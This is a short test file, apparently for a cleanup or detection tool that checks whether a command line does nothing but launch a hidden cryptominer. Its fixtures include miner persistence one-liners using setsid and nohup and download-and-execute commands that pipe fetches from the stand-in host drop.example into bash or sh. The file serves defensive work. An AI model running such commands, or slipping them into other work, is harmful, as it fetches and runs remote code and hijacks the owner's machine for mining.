import { describe, expect, test } from 'vitest';
import { isWhollyTheMiners } from './command-parts.ts';

const miner = '/home/app/.local/share/next-cache/nextd';
const files = new Set([miner]);

describe('a command line is wholly the miner’s', () => {
  test.each([
    `${miner} -c /tmp/.x/config.json`,
    `(pgrep nextd || setsid ${miner} &) >/dev/null 2>&1`,
    `( ${miner} & ) > /dev/null`,
    `{ pgrep nextd || ${miner}; } >/dev/null 2>&1`,
    `(curl -s http://drop.example/a || python -c "import urllib2 as f; print f.urlopen('http://drop.example/a').read()") | bash`,
    'cd1 -fsSL http://drop.example/a.sh | sh > /dev/null 2>&1',
    `[ -x ${miner} ] && nohup ${miner} >/dev/null 2>&1 &`,
  ])('where all of it starts the miner: %s', (command) => {
    expect(isWhollyTheMiners(command, files)).toBe(true);
  });

  test.each([
    `(/opt/app/start.sh; ${miner} &) >/dev/null 2>&1`,
    `(${miner}) >/dev/null; /opt/app/start.sh`,
    `python3 -c "import app; app.run()"; ${miner}`,
    `(${miner}) && systemctl start nginx`,
    `cat /etc/motd; ${miner}`,
    `report http://house.example/a | tee log; ${miner}`,
    `report --to http://house.example/a; ${miner}`,
  ])('not where it does something else: %s', (command) => {
    expect(isWhollyTheMiners(command, files)).toBe(false);
  });
});
